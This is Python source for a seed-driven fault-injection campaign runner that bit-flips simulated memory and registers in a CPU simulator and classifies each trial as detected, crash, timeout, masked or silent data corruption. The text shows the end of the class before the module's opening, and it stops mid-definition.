            return OUTCOME_DETECTED, f"alert: {exc.alert}", self._fired(
                injector, kernel
            )
        except (SimulatorFault, MemoryFault) as exc:
            return (
                OUTCOME_CRASH,
                f"{type(exc).__name__}: {exc}",
                self._fired(injector, kernel),
            )
        except ExecutionLimit as exc:
            return (
                OUTCOME_TIMEOUT,
                f"watchdog[{exc.reason}] after {exc.instructions} "
                f"instructions",
                self._fired(injector, kernel),
            )
        finally:
            sim.disarm_watchdog()
            if injector is not None:
                injector.detach()
        injected = self._fired(injector, kernel)
        observable = (exit_status, kernel.process.stdout_text)
        if observable == golden.observable:
            return OUTCOME_MASKED, "output identical to golden", injected
        return (
            OUTCOME_SDC,
            f"exit={exit_status} stdout differs from golden",
            injected,
        )

    @staticmethod
    def _fired(injector: Optional[FaultInjector], kernel: Kernel) -> bool:
        if injector is not None:
            return injector.fired
        fault = kernel.syscall_fault
        return bool(fault is not None and fault.fired)

    def _recover(
        self,
        sim: Simulator,
        kernel: Kernel,
        checkpoint: Checkpoint,
        golden: GoldenRun,
        outcome: str,
        detail: str,
    ) -> Tuple[str, Optional[bool]]:
        """Apply the recovery policy after an abnormal trial ending."""
        policy = self.config.recovery
        if policy == "halt" or outcome not in (
            OUTCOME_DETECTED,
            OUTCOME_CRASH,
            OUTCOME_TIMEOUT,
        ):
            return detail, None
        if policy == "kill-process":
            sim.halt(137)
            return detail + "; process killed (exit 137)", None
        # rollback-retry: restore the pre-fault checkpoint and re-execute
        # without the fault.  The fault is gone by construction (the
        # injector detached, the kernel fault is cleared below), so a
        # matching retry proves the rollback restored clean state.
        kernel.syscall_fault = None
        checkpoint.restore(sim, kernel)
        sim.arm_watchdog(
            max_instructions=self._trial_budget(golden),
            max_seconds=self.config.max_seconds,
        )
        try:
            exit_status = self._run_engine(sim)
        except Exception as exc:
            sim.disarm_watchdog()
            return (
                detail + f"; retry failed ({type(exc).__name__})",
                False,
            )
        sim.disarm_watchdog()
        recovered = (exit_status, kernel.process.stdout_text) == (
            golden.observable
        )
        suffix = (
            "; rollback-retry reproduced golden"
            if recovered
            else "; rollback-retry diverged from golden"
        )
        return detail + suffix, recovered

    # ------------------------------------------------------------------
    # the plan / execute / merge contract
    # ------------------------------------------------------------------

    def prepare(self) -> None:
        """Build the machine, pre-run checkpoint, and golden baseline.

        Idempotent: the first call does the work, later calls are free.
        Every public phase method calls this, so a campaign object can be
        driven piecewise (``build_plan`` in the parent process,
        ``run_trial`` in a pool worker, ``merge`` back in the parent).
        """
        if self._golden is not None:
            return
        self._sim, self._kernel = self._make_machine()
        self._checkpoint = Checkpoint(self._sim, self._kernel)
        self._golden = self._golden_run(self._sim, self._kernel)

    @property
    def golden(self) -> GoldenRun:
        """The golden baseline (prepares the campaign on first access)."""
        self.prepare()
        return self._golden

    def build_plan(self) -> List[Tuple[Trigger, FaultSpec]]:
        """Phase 2 as a standalone step: the full seeded trial plan.

        Depends only on the config seed and the golden run -- never on
        trial outcomes -- so the plan built in a campaign's parent
        process is bit-identical to one any worker would build.
        """
        self.prepare()
        return self._build_plan(self._golden, random.Random(self.config.seed))

    def run_trial(
        self, index: int, trigger: Trigger, spec: FaultSpec
    ) -> TrialRecord:
        """Phase 3+4 for one plan entry: rollback, inject, classify,
        recover.  Stateless between calls (every trial starts from the
        pre-run checkpoint), so any subset of plan entries can run in any
        process in any order."""
        self.prepare()
        sim, kernel = self._sim, self._kernel
        self._checkpoint.restore(sim, kernel)
        outcome, detail, injected = self._run_trial(
            sim, kernel, self._golden, trigger, spec
        )
        instructions = sim.stats.instructions
        detail, recovered = self._recover(
            sim, kernel, self._checkpoint, self._golden, outcome, detail
        )
        kernel.syscall_fault = None
        return TrialRecord(
            index=index,
            trigger=trigger.spec(),
            fault=spec.describe(),
            outcome=outcome,
            detail=detail,
            instructions=instructions,
            injected=injected,
            recovered=recovered,
        )

    def merge(self, records: Sequence[TrialRecord]) -> CampaignResult:
        """Assemble trial records (any order) into a campaign result.

        Records are sorted by plan position, which is what makes the
        pool's completion order irrelevant: the digest hashes records in
        index order regardless of which worker finished when.  Raises if
        the records do not cover the plan exactly once each.
        """
        self.prepare()
        ordered = sorted(records, key=lambda r: r.index)
        indices = [r.index for r in ordered]
        if indices != list(range(len(ordered))):
            missing = sorted(set(range(len(ordered))) - set(indices))
            raise ValueError(
                f"trial records do not cover the plan: expected indices "
                f"0..{len(ordered) - 1}, missing {missing[:8]}"
            )
        return CampaignResult(
            workload=self.workload.name,
            config=self.config,
            golden=self._golden,
            records=list(ordered),
        )

    # ------------------------------------------------------------------
    # the campaign
    # ------------------------------------------------------------------

    def run(self) -> CampaignResult:
        workers = self.config.resolved_workers()
        plan = self.build_plan()
        if workers > 1 and len(plan) > 1:
            return self._run_parallel(plan, workers)
        return self._run_serial(plan)

    def _run_serial(self, plan) -> CampaignResult:
        sim, kernel = self._sim, self._kernel
        checkpoint = self._checkpoint
        golden = self._golden
        result = CampaignResult(
            workload=self.workload.name, config=self.config, golden=golden
        )
        trial_subs = sim.events.subscribers(TrialCompleted)
        start = time.perf_counter()
        for index, (trigger, spec) in enumerate(plan):
            if self.config.reuse_snapshots:
                checkpoint.restore(sim, kernel)
            else:
                # Benchmark mode: pay the full rebuild (re-decode, re-bind,
                # fresh kernel) every trial instead of one rollback.
                sim, kernel = self._make_machine()
                checkpoint = Checkpoint(sim, kernel)
                trial_subs = sim.events.subscribers(TrialCompleted)
            outcome, detail, injected = self._run_trial(
                sim, kernel, golden, trigger, spec
            )
            instructions = sim.stats.instructions
            detail, recovered = self._recover(
                sim, kernel, checkpoint, golden, outcome, detail
            )
            kernel.syscall_fault = None
            record = TrialRecord(
                index=index,
                trigger=trigger.spec(),
                fault=spec.describe(),
                outcome=outcome,
                detail=detail,
                instructions=instructions,
                injected=injected,
                recovered=recovered,
            )
            result.records.append(record)
            if trial_subs:
                sim.events.emit(TrialCompleted(index, outcome, detail))
        result.elapsed = time.perf_counter() - start
        return result

    def _run_parallel(self, plan, workers: int) -> CampaignResult:
        if not self.config.reuse_snapshots:
            raise ValueError(
                "parallel campaigns require reuse_snapshots=True (each "
                "worker rolls its chunk back from one local checkpoint)"
            )
        from ..parallel.engine import run_campaign_chunks

        start = time.perf_counter()
        records, pool_stats = run_campaign_chunks(
            self, plan, workers, registry=self.registry
        )
        result = self.merge(records)
        result.elapsed = time.perf_counter() - start
        result.parallel = dict(pool_stats, wall_s=round(result.elapsed, 4))
        # Replay completion events in plan order: subscribers observe the
        # same TrialCompleted sequence a serial campaign emits.
        if self._sim.events.subscribers(TrialCompleted):
            for record in result.records:
                self._sim.events.emit(
                    TrialCompleted(record.index, record.outcome, record.detail)
                )
        return result
