"""The deterministic, seed-driven fault-injection campaign runner.

A campaign answers the classic dependability question for this machine:
*when live state is corrupted, how does the run end?*  The procedure is
the standard SWIFI loop, built on this repo's checkpoint/rollback and
watchdog primitives:

1. **Golden run.**  Build the workload once, checkpoint the pre-run state
   (machine + kernel), run fault-free, and record the observable baseline:
   exit status, stdout, instruction count, the set of touched data pages,
   and per-PC / per-syscall retirement counts for trigger sampling.
2. **Plan.**  From ``random.Random(seed)``, draw the full list of
   ``(Trigger, FaultSpec)`` pairs up front.  The plan depends only on the
   seed and the golden run, never on trial outcomes, so a campaign is
   bit-for-bit reproducible.
3. **Trials.**  For each plan entry: roll back to the pre-run checkpoint
   (cheap -- the simulator and its decoded program are reused), arm the
   watchdog (instruction budget = ``slack`` x golden length, plus a
   generous wall-clock safety net), arm the fault, run, classify:

   =========  ==========================================================
   detected   the taintedness detector raised a security exception
   crash      a machine-level fault (bad fetch, bad size, wild syscall)
   timeout    the watchdog converted a runaway trial into ExecutionLimit
   masked     clean exit, observable output identical to golden
   sdc        clean exit, observable output differs (silent corruption)
   =========  ==========================================================

4. **Recovery.**  On an abnormal ending the configured policy runs:
   ``halt`` keeps the verdict, ``kill-process`` records the process as
   terminated, ``rollback-retry`` restores the pre-run checkpoint and
   re-executes *without* the fault -- the trial is ``recovered`` when the
   retry reproduces the golden observable exactly, which doubles as a
   proof that rollback really does restore a clean pre-fault state.

Determinism: timeouts are decided by the deterministic instruction budget
(the wall-clock deadline is a safety net orders of magnitude looser), all
sampling pools are sorted, and the digest over the trial records makes two
same-seed campaigns comparable with one string equality.

The pipeline is split into three phases with a public method each --
:meth:`FaultCampaign.build_plan` (golden run + seeded plan),
:meth:`FaultCampaign.run_trial` (one rollback-replay-classify step), and
:meth:`FaultCampaign.merge` (index-sorted record assembly) -- so the
process-pool engine in :mod:`repro.parallel` can fan chunked plan slices
out to workers and still produce the exact artifacts serial execution
does.  ``CampaignConfig.workers`` selects the engine: ``1`` (default)
runs the untouched serial loop, ``N > 1`` runs N pool workers, ``0``
means every available core.
"""

from __future__ import annotations

import hashlib
import os
import random
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ..builder import build_machine
from ..defenses.alerts import SecurityException
from ..core.events import (
    FaultInjected,
    InstructionRetired,
    SyscallEnter,
    SyscallExit,
    TaintPropagated,
    TrialCompleted,
)
from ..defenses.policy import PointerTaintPolicy
from ..cpu.machine import ExecutionLimit, SimulatorFault
from ..cpu.pipeline import Pipeline
from ..cpu.simulator import Simulator
from ..kernel.syscalls import Kernel, SyscallFault
from ..libc.build import build_program
from ..mem.layout import PAGE_SIZE
from ..mem.tainted_memory import MemoryFault
from .checkpoint import Checkpoint
from .faults import (
    FAULT_KINDS,
    FaultInjector,
    FaultSpec,
    STATE_FAULT_KINDS,
    SYSCALL_FAULT_KINDS,
    SYSCALL_FAULT_MODES,
    apply_state_fault,
)
from .triggers import Trigger
from .workloads import Workload

__all__ = [
    "CampaignConfig",
    "CampaignResult",
    "FaultCampaign",
    "GoldenRun",
    "OUTCOME_CRASH",
    "OUTCOME_DETECTED",
    "OUTCOME_MASKED",
    "OUTCOME_SDC",
    "OUTCOME_TIMEOUT",
    "OUTCOMES",
    "RECOVERY_POLICIES",
    "TrialRecord",
]

OUTCOME_DETECTED = "detected"
OUTCOME_MASKED = "masked"
OUTCOME_SDC = "sdc"
OUTCOME_CRASH = "crash"
OUTCOME_TIMEOUT = "timeout"

#: The complete trial-outcome taxonomy (every trial lands in exactly one).
OUTCOMES = (
    OUTCOME_DETECTED,
    OUTCOME_MASKED,
    OUTCOME_SDC,
    OUTCOME_CRASH,
    OUTCOME_TIMEOUT,
)

#: What to do after an abnormal trial ending (detected/crash/timeout).
RECOVERY_POLICIES = ("halt", "kill-process", "rollback-retry")

#: Instruction budget for the golden run (a broken workload must not hang
#: the campaign either).
_GOLDEN_BUDGET = 20_000_000

#: Epoch-ladder tuning: initial capture stride (instructions), the target
#: ladder depth (thinning kicks in at twice this), and a hard byte budget
#: on frozen epoch pages so pathological workloads (huge dirty footprints)
#: simply stop laddering instead of exhausting memory.
_EPOCH_STRIDE = 64
_EPOCH_MAX = 16
_EPOCH_BYTE_BUDGET = 32 << 20


@dataclass(frozen=True)
class _Epoch:
    """One intermediate golden-run state, delta-encoded against the
    pre-run checkpoint.

    Captured for free while the golden run executes (the run pauses at
    stride boundaries; no extra execution happens), keyed by the absolute
    retired-instruction count.  ``data_delta``/``shadow_delta`` hold
    frozen copies of exactly the pages the golden prefix dirtied or
    materialized -- the pre-run checkpoint's live dirty sets at capture
    time -- so fast-forwarding a freshly rolled-back machine to this
    epoch is one slice-copy per delta page.
    """

    instructions: int
    pc: int
    regs: Tuple
    reg_taints: Tuple[int, ...]
    caches: Optional[Tuple]
    stats: object
    recent_pcs: Tuple[int, ...]
    alerts: Tuple
    watchpoints: Tuple
    data_delta: Dict[int, bytes]
    shadow_delta: Dict[int, bytes]
    tainted_pages: frozenset
    tainted_bytes_written: int
    kernel: object
    nbytes: int


@dataclass(frozen=True)
class TrialRecord:
    """One classified fault trial."""

    index: int
    trigger: str
    fault: str
    outcome: str
    detail: str
    instructions: int
    injected: bool
    recovered: Optional[bool] = None

    def key(self) -> Tuple:
        """The fields covered by the campaign digest."""
        return (
            self.index,
            self.trigger,
            self.fault,
            self.outcome,
            self.detail,
            self.instructions,
            self.injected,
            self.recovered,
        )


@dataclass
class CampaignConfig:
    """Knobs for one campaign.

    ``instruction_slack`` scales the golden instruction count into the
    per-trial watchdog budget; ``max_seconds`` is a wall-clock *safety
    net* that should never fire before the instruction budget on a
    healthy host (timeout classification stays deterministic).
    """

    seed: int = 7
    trials: int = 100
    engine: str = "functional"  # | "pipeline"
    recovery: str = "halt"
    use_caches: bool = False
    #: Run the machine's taint plane in label mode.  Orthogonal to the
    #: trial outcomes: the campaign digest is identical in both modes
    #: (alert strings and fault details never include provenance).
    taint_labels: bool = False
    #: Fused superblock dispatch (see :mod:`repro.cpu.superblock`).
    #: Orthogonal to trial outcomes: the campaign digest is identical
    #: with the tier on or off (asserted in tests and CI).
    superblocks: bool = True
    instruction_slack: float = 4.0
    max_seconds: float = 30.0
    reuse_snapshots: bool = True
    #: Capture the pre-run checkpoint as a copy-on-write delta snapshot
    #: (restore rewrites only the pages a trial dirtied).  ``False``
    #: forces the legacy eager full copy.  Orthogonal to trial outcomes:
    #: the campaign digest is identical either way (asserted in CI).
    delta_restore: bool = True
    #: Resolve insn/pc triggers to exact retirement indices against the
    #: golden run and execute the pre-fire prefix as one fused
    #: ``run(max_instructions=fire_at)`` burst instead of single-stepping
    #: under an InstructionRetired subscriber.  Sound because the prefix
    #: is deterministic and identical to the golden run until the fault
    #: lands; automatically bypassed when event subscribers, the pipeline
    #: engine, or deeper-than-recorded pc occurrences need the legacy
    #: injector.  Digest-identical either way (asserted in CI).
    fast_triggers: bool = True
    #: Process-pool width: ``1`` = serial (the default, legacy loop
    #: untouched), ``N > 1`` = that many pool workers, ``0`` = one per
    #: available core.  The campaign digest is identical for every value.
    workers: int = 1
    kinds: Tuple[str, ...] = FAULT_KINDS

    def __post_init__(self) -> None:
        if self.engine not in ("functional", "pipeline"):
            raise ValueError(f"unknown engine {self.engine!r}")
        if self.recovery not in RECOVERY_POLICIES:
            raise ValueError(f"unknown recovery policy {self.recovery!r}")
        unknown = set(self.kinds) - set(FAULT_KINDS)
        if unknown:
            raise ValueError(f"unknown fault kinds {sorted(unknown)}")
        if not self.kinds:
            raise ValueError("campaign needs at least one fault kind")
        if self.workers < 0:
            raise ValueError("workers must be >= 0 (0 = one per core)")

    def resolved_workers(self) -> int:
        """The effective pool width (``0`` resolved to the core count)."""
        if self.workers == 0:
            return os.cpu_count() or 1
        return self.workers


#: How many retirement indices the golden run records per PC.  Matches
#: the plan's occurrence cap (``min(pc_count, 16)``), so every seeded pc
#: trigger resolves to an exact fire index; explicit schedules asking
#: for deeper occurrences fall back to the legacy event injector.
_PC_VISIT_DEPTH = 16


@dataclass(frozen=True)
class GoldenRun:
    """Observable baseline of the fault-free run."""

    exit_status: int
    stdout: str
    instructions: int
    data_pages: Tuple[int, ...]
    pc_counts: Tuple[Tuple[int, int], ...]
    syscall_counts: Tuple[Tuple[int, int], ...]
    #: Per PC, the 1-based retirement indices of its first
    #: ``_PC_VISIT_DEPTH`` visits -- what lets the fast-trigger path turn
    #: a ``pc@occurrence`` trigger into an exact instruction budget.
    pc_visit_indices: Tuple[Tuple[int, Tuple[int, ...]], ...] = ()

    @property
    def observable(self) -> Tuple[int, str]:
        return (self.exit_status, self.stdout)


@dataclass
class CampaignResult:
    """Everything a finished campaign produced."""

    workload: str
    config: CampaignConfig
    golden: GoldenRun
    records: List[TrialRecord] = field(default_factory=list)
    elapsed: float = 0.0
    #: Metrics-registry dump attached by :class:`repro.api.Session`
    #: (None when the campaign was not instrumented).
    metrics: Optional[dict] = None
    #: Pool execution summary (``{"workers", "chunks", "wall_s", ...}``)
    #: when the campaign ran on the process-pool engine; None for serial
    #: runs.  Never part of the digest: two campaigns that differ only in
    #: pool width produce byte-identical records.
    parallel: Optional[dict] = None

    @property
    def counts(self) -> Dict[str, int]:
        counts = {outcome: 0 for outcome in OUTCOMES}
        for record in self.records:
            counts[record.outcome] += 1
        return counts

    @property
    def injected_count(self) -> int:
        return sum(1 for r in self.records if r.injected)

    @property
    def recovered_count(self) -> int:
        return sum(1 for r in self.records if r.recovered)

    @property
    def trials_per_second(self) -> float:
        return len(self.records) / self.elapsed if self.elapsed > 0 else 0.0

    def digest(self) -> str:
        """SHA-256 over every trial record: two same-seed campaigns agree
        on this string iff they agree on every classified trial."""
        hasher = hashlib.sha256()
        for record in self.records:
            hasher.update(repr(record.key()).encode())
        return hasher.hexdigest()

    def kind_outcome_matrix(self) -> Dict[str, Dict[str, int]]:
        """fault kind -> outcome -> count."""
        matrix: Dict[str, Dict[str, int]] = {}
        for record in self.records:
            kind = record.fault.split("@")[0]
            row = matrix.setdefault(
                kind, {outcome: 0 for outcome in OUTCOMES}
            )
            row[record.outcome] += 1
        return matrix

    def to_dict(self) -> dict:
        """JSON-ready summary (written by ``repro campaign --json``)."""
        payload = {
            "workload": self.workload,
            "seed": self.config.seed,
            "trials": len(self.records),
            "engine": self.config.engine,
            "recovery": self.config.recovery,
            "use_caches": self.config.use_caches,
            "taint_labels": self.config.taint_labels,
            "golden": {
                "exit_status": self.golden.exit_status,
                "stdout": self.golden.stdout,
                "instructions": self.golden.instructions,
            },
            "counts": self.counts,
            "injected": self.injected_count,
            "recovered": self.recovered_count,
            "digest": self.digest(),
            "elapsed_seconds": round(self.elapsed, 3),
            "trials_per_second": round(self.trials_per_second, 2),
            "records": [
                {
                    "index": r.index,
                    "trigger": r.trigger,
                    "fault": r.fault,
                    "outcome": r.outcome,
                    "detail": r.detail,
                    "instructions": r.instructions,
                    "injected": r.injected,
                    "recovered": r.recovered,
                }
                for r in self.records
            ],
        }
        if self.parallel is not None:
            payload["parallel"] = dict(self.parallel)
        return payload

    def to_json(self) -> dict:
        """Unified result payload (see ``repro.api.validate_result_json``).

        The full per-trial detail stays under ``"stats"`` (the historical
        :meth:`to_dict` shape); ``"digest"`` is surfaced at the top level
        so reproducibility checks need not descend into the stats.
        """
        return {
            "kind": "campaign",
            "detected": self.counts[OUTCOME_DETECTED] > 0,
            "digest": self.digest(),
            "stats": self.to_dict(),
            "metrics": self.metrics if self.metrics is not None else {},
        }


class FaultCampaign:
    """Run one campaign over one workload.

    Args:
        workload: the victim program and its golden input.
        config: campaign knobs.
        schedule: explicit ``(Trigger, FaultSpec)`` pairs overriding the
            seeded plan (used by the engine-agreement tests); ``trials``
            is then ``len(schedule)``.
        instrument: observability hook (used by
            :class:`repro.api.Session`): called with every freshly built
            simulator -- the initial machine and any
            ``reuse_snapshots=False`` rebuild -- so metric observers and
            trace recorders survive machine replacement.
        registry: optional :class:`~repro.obs.metrics.MetricsRegistry`
            that the process-pool engine fills with ``parallel.*`` pool
            metrics (serial runs never touch it).
    """

    def __init__(
        self,
        workload: Workload,
        config: Optional[CampaignConfig] = None,
        schedule: Optional[Sequence[Tuple[Trigger, FaultSpec]]] = None,
        instrument: Optional[Callable[[Simulator], object]] = None,
        registry=None,
    ) -> None:
        self.workload = workload
        self.config = config if config is not None else CampaignConfig()
        self.schedule = list(schedule) if schedule is not None else None
        self.instrument = instrument
        self.registry = registry
        self.executable = build_program(workload.source)
        self._sim: Optional[Simulator] = None
        self._kernel: Optional[Kernel] = None
        self._checkpoint: Optional[Checkpoint] = None
        self._golden: Optional[GoldenRun] = None
        # Lazy lookup maps for the fast-trigger path (built per process
        # from the golden run on first use).
        self._pc_visit_map: Optional[Dict[int, Tuple[int, ...]]] = None
        self._pc_count_map: Optional[Dict[int, int]] = None
        #: Intermediate golden-run states for prefix fast-forward (empty
        #: when epochs are disabled or inapplicable; see _epochs_enabled).
        self._epoch_list: List[_Epoch] = []

    # ------------------------------------------------------------------
    # machine lifecycle
    # ------------------------------------------------------------------

    def _make_machine(self) -> Tuple[Simulator, Kernel]:
        workload = self.workload
        sim, kernel = build_machine(
            self.executable,
            PointerTaintPolicy(),
            argv=[workload.name, *workload.argv],
            stdin=workload.stdin,
            use_caches=self.config.use_caches,
            taint_labels=self.config.taint_labels,
            superblocks=self.config.superblocks,
        )
        if self.instrument is not None:
            self.instrument(sim)
        return sim, kernel

    def _run_engine(self, sim: Simulator) -> int:
        if self.config.engine == "pipeline":
            return Pipeline(sim).run()
        return sim.run()

    # ------------------------------------------------------------------
    # phase 1: golden run
    # ------------------------------------------------------------------

    def _golden_run(
        self, sim: Simulator, kernel: Kernel
    ) -> GoldenRun:
        pc_counts: Dict[int, int] = {}
        pc_visits: Dict[int, List[int]] = {}
        syscall_counts: Dict[int, int] = {}

        def count_pc(event: InstructionRetired) -> None:
            pc_counts[event.pc] = pc_counts.get(event.pc, 0) + 1
            visits = pc_visits.get(event.pc)
            if visits is None:
                pc_visits[event.pc] = [event.index]
            elif len(visits) < _PC_VISIT_DEPTH:
                visits.append(event.index)

        def count_syscall(event: SyscallEnter) -> None:
            syscall_counts[event.number] = (
                syscall_counts.get(event.number, 0) + 1
            )

        sim.events.subscribe(InstructionRetired, count_pc)
        sim.events.subscribe(SyscallEnter, count_syscall)
        sim.arm_watchdog(
            max_instructions=_GOLDEN_BUDGET,
            max_seconds=self.config.max_seconds,
        )
        try:
            if self._epochs_enabled():
                exit_status = self._golden_run_with_epochs(sim, kernel)
            else:
                exit_status = self._run_engine(sim)
        except Exception as exc:
            raise ValueError(
                f"workload {self.workload.name!r} golden run must exit "
                f"cleanly, got {type(exc).__name__}: {exc}"
            ) from exc
        finally:
            sim.disarm_watchdog()
            sim.events.unsubscribe(InstructionRetired, count_pc)
            sim.events.unsubscribe(SyscallEnter, count_syscall)

        text_start = self.executable.text_base & ~(PAGE_SIZE - 1)
        text_end = self.executable.text_base + 4 * len(
            self.executable.text_words
        )
        data_pages = tuple(
            page
            for page in sim.memory.page_addresses()
            if not text_start <= page < text_end
        )
        return GoldenRun(
            exit_status=exit_status,
            stdout=kernel.process.stdout_text,
            instructions=sim.stats.instructions,
            data_pages=data_pages,
            pc_counts=tuple(sorted(pc_counts.items())),
            syscall_counts=tuple(sorted(syscall_counts.items())),
            pc_visit_indices=tuple(
                sorted((pc, tuple(v)) for pc, v in pc_visits.items())
            ),
        )

    # ------------------------------------------------------------------
    # the epoch ladder (golden-prefix fast-forward for fast triggers)
    # ------------------------------------------------------------------

    def _epochs_enabled(self) -> bool:
        """May this campaign build and use the epoch ladder?

        The ladder fast-forwards trials *past* the deterministic golden
        prefix, so it needs both delta-restore plumbing (the deltas are
        keyed by the checkpoint's live dirty sets) and the fast-trigger
        path (legacy event injectors count occurrences from run start).
        Label mode is excluded: an epoch would also have to carry a
        label-table segment to replay; those campaigns keep the plain
        fast-trigger path, whose digests are pinned identical anyway.
        """
        config = self.config
        return (
            config.fast_triggers
            and config.delta_restore
            and config.reuse_snapshots
            and config.engine == "functional"
            and not config.taint_labels
        )

    def _golden_run_with_epochs(self, sim: Simulator, kernel: Kernel) -> int:
        """Run the golden workload, pausing at stride boundaries to
        capture intermediate states (no instruction executes twice).

        The ladder is geometrically thinned: when it reaches twice the
        target depth, every other epoch is dropped and the stride
        doubles, bounding the ladder at ``2 * _EPOCH_MAX`` entries for a
        golden run of any length.  Capture stops (the run continues
        plain) once the frozen-page byte budget is spent.
        """
        stride = _EPOCH_STRIDE
        epochs: List[_Epoch] = []
        spent = 0
        while True:
            try:
                exit_status = sim.run(max_instructions=stride)
                break
            except ExecutionLimit as exc:
                limit = sim.instruction_limit
                if exc.reason != "instructions" or (
                    limit is not None and sim.stats.instructions >= limit
                ):
                    raise  # a genuine watchdog trip, not a stride pause
                epoch = self._capture_epoch(sim, kernel)
                if epoch is None or spent + epoch.nbytes > _EPOCH_BYTE_BUDGET:
                    stride = _GOLDEN_BUDGET
                    continue
                epochs.append(epoch)
                spent += epoch.nbytes
                if len(epochs) >= 2 * _EPOCH_MAX:
                    epochs = epochs[1::2]
                    stride *= 2
        self._epoch_list = epochs
        return exit_status

    def _capture_epoch(self, sim: Simulator, kernel: Kernel) -> Optional[_Epoch]:
        """Freeze the current mid-golden state as a delta against the
        pre-run checkpoint (None when no delta capture is active)."""
        cow = sim.memory._cow
        if cow is None:
            return None
        pages = sim.memory._pages
        taints = sim.memory._taint_pages
        data_delta: Dict[int, bytes] = {}
        for base in cow.data_dirty | cow.fresh:
            page = pages.get(base)
            if page is not None:
                data_delta[base] = bytes(page)
        shadow_delta: Dict[int, bytes] = {}
        for base in cow.shadow_dirty:
            taint = taints.get(base)
            if taint is not None:
                shadow_delta[base] = bytes(taint)
        nbytes = sum(map(len, data_delta.values()))
        nbytes += sum(map(len, shadow_delta.values()))
        return _Epoch(
            instructions=sim.stats.instructions,
            pc=sim.pc,
            regs=sim.regs.snapshot(),
            reg_taints=tuple(sim.plane.reg_taints),
            caches=sim.caches.snapshot() if sim.caches is not None else None,
            stats=sim.stats.clone(),
            recent_pcs=tuple(sim.recent_pcs),
            alerts=tuple(sim.detector.alerts),
            watchpoints=tuple(sim.watchpoints),
            data_delta=data_delta,
            shadow_delta=shadow_delta,
            tainted_pages=frozenset(sim.plane.tainted_pages),
            tainted_bytes_written=sim.memory.tainted_bytes_written,
            kernel=kernel.snapshot(),
            nbytes=nbytes,
        )

    def _apply_epoch(self, sim: Simulator, kernel: Kernel, epoch: _Epoch) -> None:
        """Fast-forward a freshly rolled-back machine to an epoch.

        Every page written here is marked dirty (or fresh) in the active
        delta capture exactly as a trial's own writes would be, so the
        next rollback reverts the fast-forward along with the trial.
        Sound by determinism: the state installed is byte-identical to
        what re-executing the golden prefix would produce.
        """
        memory = sim.memory
        plane = sim.plane
        cow = memory._cow
        pages = memory._pages
        taints = memory._taint_pages
        for base, content in epoch.data_delta.items():
            page = pages.get(base)
            if page is None:
                pages[base] = bytearray(content)
                taints[base] = bytearray(PAGE_SIZE)
                if cow is not None:
                    cow.fresh.add(base)
                continue
            if cow is not None and base not in cow.data_dirty:
                cow.data_dirty.add(base)
                if base not in cow.fresh:
                    cow.data_baseline[base] = bytes(page)
            page[:] = content
        for base, content in epoch.shadow_delta.items():
            taint = taints.get(base)
            if taint is None:
                continue
            if cow is not None and base not in cow.shadow_dirty:
                cow.shadow_dirty.add(base)
                if base not in cow.fresh:
                    cow.shadow_baseline[base] = bytes(taint)
            taint[:] = content
        tainted = plane.tainted_pages
        tainted.clear()
        tainted.update(epoch.tainted_pages)
        plane.reg_taints[:] = epoch.reg_taints
        memory.tainted_bytes_written = epoch.tainted_bytes_written
        sim.pc = epoch.pc
        sim.halted = False
        sim.exit_status = None
        sim.regs.restore(epoch.regs)
        if sim.caches is not None and epoch.caches is not None:
            sim.caches.restore(epoch.caches)
        sim.stats.restore(epoch.stats)
        sim.recent_pcs.clear()
        sim.recent_pcs.extend(epoch.recent_pcs)
        sim.detector.alerts[:] = epoch.alerts
        sim.watchpoints.restore(epoch.watchpoints)
        kernel.restore(epoch.kernel)

    def _restore_to_fire_point(
        self,
        sim: Simulator,
        kernel: Kernel,
        checkpoint: Checkpoint,
        fire_at: int,
    ) -> None:
        """Roll back and fast-forward to the deepest epoch at or below
        ``fire_at`` (plain rollback when no epoch qualifies)."""
        best: Optional[_Epoch] = None
        for epoch in self._epoch_list:
            if epoch.instructions <= fire_at:
                best = epoch
            else:
                break
        checkpoint.restore(sim, kernel)
        if best is not None:
            self._apply_epoch(sim, kernel, best)

    # ------------------------------------------------------------------
    # phase 2: the seeded plan
    # ------------------------------------------------------------------

    def _build_plan(
        self, golden: GoldenRun, rng: random.Random
    ) -> List[Tuple[Trigger, FaultSpec]]:
        if self.schedule is not None:
            return list(self.schedule)
        input_numbers = [
            number for number, _ in golden.syscall_counts if number in (3, 64)
        ]
        kinds = [
            kind
            for kind in self.config.kinds
            # Syscall-layer faults need an input syscall to perturb.
            if kind in STATE_FAULT_KINDS or input_numbers
        ]
        if not kinds:
            raise ValueError(
                "no applicable fault kinds: workload performs no input "
                "syscalls and only syscall kinds were requested"
            )
        pcs = [pc for pc, _ in golden.pc_counts]
        pc_count = dict(golden.pc_counts)
        # PC triggers sample *dynamic* occurrences (count-weighted), so a
        # fault is as likely to land in a hot loop as uniform-over-time
        # injection would make it -- the standard SWIFI fault model.
        pc_weights = [pc_count[pc] for pc in pcs]
        kind_weights = [
            3 if kind in STATE_FAULT_KINDS else 1 for kind in kinds
        ]
        plan: List[Tuple[Trigger, FaultSpec]] = []
        for _ in range(self.config.trials):
            kind = rng.choices(kinds, weights=kind_weights)[0]
            if kind in SYSCALL_FAULT_KINDS:
                number = rng.choice(input_numbers)
                occurrence = rng.randint(
                    1, dict(golden.syscall_counts)[number]
                )
                trigger = Trigger("syscall", number, occurrence)
                spec = FaultSpec(kind)
            else:
                if rng.random() < 0.5:
                    trigger = Trigger(
                        "insn", rng.randint(1, golden.instructions)
                    )
                else:
                    pc = rng.choices(pcs, weights=pc_weights)[0]
                    occurrence = rng.randint(1, min(pc_count[pc], 16))
                    trigger = Trigger("pc", pc, occurrence)
                if kind in ("mem", "taint-mem"):
                    page = rng.choice(golden.data_pages)
                    target = page + rng.randrange(PAGE_SIZE)
                    # One or two flipped bits per fault (single-bit upsets
                    # dominate, but multi-bit upsets exist).
                    mask = 1 << rng.randrange(8)
                    if rng.random() < 0.25:
                        mask |= 1 << rng.randrange(8)
                elif kind == "reg":
                    target = rng.randint(1, 31)
                    mask = 1 << rng.randrange(32)
                    if rng.random() < 0.25:
                        mask |= 1 << rng.randrange(32)
                else:  # taint-reg
                    target = rng.randint(1, 31)
                    mask = 1 << rng.randrange(4)
                spec = FaultSpec(kind, target, mask)
            plan.append((trigger, spec))
        return plan

    # ------------------------------------------------------------------
    # phase 3 + 4: trials and recovery
    # ------------------------------------------------------------------

    def _trial_budget(self, golden: GoldenRun) -> int:
        return int(self.config.instruction_slack * golden.instructions) + 10_000

    def _fire_index(
